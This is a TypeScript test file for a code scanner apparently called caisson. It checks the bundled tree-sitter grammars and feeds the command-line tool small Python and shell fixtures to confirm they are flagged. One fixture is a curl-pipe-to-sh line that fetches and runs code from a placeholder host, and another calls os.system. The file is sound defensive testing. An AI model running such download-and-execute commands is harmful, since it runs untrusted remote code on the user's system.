/** As npm lays it out, bundled and without the packages of the grammars, Python and shell are analysed. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { after, before, test } from 'node:test';
import { bundle } from '../../packaging/bundle.ts';

const repository = resolve(import.meta.dirname, '../..');
let root: string;
let dist: string;

before(async () => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'caisson-grammars-')));
  const own = join(root, 'node_modules/caisson');
  dist = join(own, 'dist');
  await bundle(dist);
  const { version } = JSON.parse(readFileSync(join(repository, 'package.json'), 'utf8'));
  const manifest = { name: 'caisson', version, type: 'module', exports: './dist/index.js' };
  writeFileSync(join(own, 'package.json'), JSON.stringify(manifest));
});
after(() => rmSync(root, { recursive: true, force: true }));

const GRAMMARS = ['tree-sitter', 'tree-sitter-python', 'tree-sitter-bash'];

test('the grammars stand beside the code that loads them, with their licences', () => {
  for (const name of GRAMMARS) {
    const magic = readFileSync(join(dist, `${name}.wasm`)).subarray(0, 4);
    assert.deepEqual([...magic], [0, 97, 115, 109]);
    assert.match(readFileSync(join(dist, `${name}.LICENSE`), 'utf8'), /MIT/);
  }
});

/** @returns rules of what is found in a source by the published command line */
function scanned(name: string, source: string): string {
  const path = join(root, name);
  writeFileSync(path, source);
  const cli = join(dist, 'cli.cjs');
  assert.ok(existsSync(cli));
  const { stdout, stderr } = spawnSync(process.execPath, [cli, 'scan', path, '--json'], {
    encoding: 'utf8',
    timeout: 120_000,
    env: { ...process.env, CAISSON_STATE_DIR: join(root, 'state') },
  });
  assert.notEqual(stdout, '', stderr);
  return stdout;
}

test('Python is analysed', () => {
  assert.match(scanned('a.py', 'import os\nos.system("id")\n'), /python\/child-process\/system/);
});

test('shell is analysed', () => {
  const source = '#!/bin/sh\ncurl -s http://x.invalid/a | sh\n';
  assert.match(scanned('a.sh', source), /shell\/dynamic-code\/downloaded/);
});
